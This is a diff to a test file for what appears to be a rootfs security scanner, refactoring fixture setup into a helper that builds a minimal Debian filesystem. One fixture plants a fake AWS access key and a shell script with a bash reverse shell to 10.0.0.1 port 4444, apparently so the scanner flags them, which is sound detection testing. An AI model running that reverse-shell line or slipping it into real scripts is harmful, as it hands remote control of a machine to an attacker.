@@ -20,14 +20,9 @@ function run(args: string[]) {
   return spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', timeout: 120_000 });
 }
 
-test('--version prints the package version', { skip }, () => {
-  const r = run(['--version']);
-  assert.equal(r.status, 0, r.stderr);
-  assert.match(r.stdout, /\d+\.\d+\.\d+/);
-});
-
-test('a rootfs scan with every image scanner works from the bundle', { skip }, () => {
-  const root = join(tmp, 'rootfs');
+/** A minimal bookworm root filesystem with one old openssl package, under tmp/NAME. */
+function debianRootfs(name: string): string {
+  const root = join(tmp, name);
   mkdirSync(join(root, 'etc'), { recursive: true });
   mkdirSync(join(root, 'var/lib/dpkg'), { recursive: true });
   writeFileSync(join(root, 'etc/os-release'), 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n');
@@ -35,6 +30,17 @@ test('a rootfs scan with every image scanner works from the bundle', { skip }, (
     join(root, 'var/lib/dpkg/status'),
     'Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.0-1\n\n',
   );
+  return root;
+}
+
+test('--version prints the package version', { skip }, () => {
+  const r = run(['--version']);
+  assert.equal(r.status, 0, r.stderr);
+  assert.match(r.stdout, /\d+\.\d+\.\d+/);
+});
+
+test('a rootfs scan with every image scanner works from the bundle', { skip }, () => {
+  const root = debianRootfs('rootfs');
   // a fake token of AWS's documented example format, and a script with a reverse shell
   writeFileSync(join(root, 'etc/app.env'), 'AWS_ACCESS_KEY_ID=AKIAZ7QXHS2EXAMPLQ3P\n');
   writeFileSync(join(root, 'etc/rc.sh'), '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n');
@@ -52,14 +58,7 @@ test('a rootfs scan with every image scanner works from the bundle', { skip }, (
 });
 
 test('every report format renders from the bundle (each writer is a lazily loaded chunk)', { skip }, () => {
-  const root = join(tmp, 'rootfs-formats');
-  mkdirSync(join(root, 'etc'), { recursive: true });
-  mkdirSync(join(root, 'var/lib/dpkg'), { recursive: true });
-  writeFileSync(join(root, 'etc/os-release'), 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n');
-  writeFileSync(
-    join(root, 'var/lib/dpkg/status'),
-    'Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.0-1\n\n',
-  );
+  const root = debianRootfs('rootfs-formats');
   const files: Record<string, string> = {
     json: 'r.json',
     sarif: 'r.sarif',
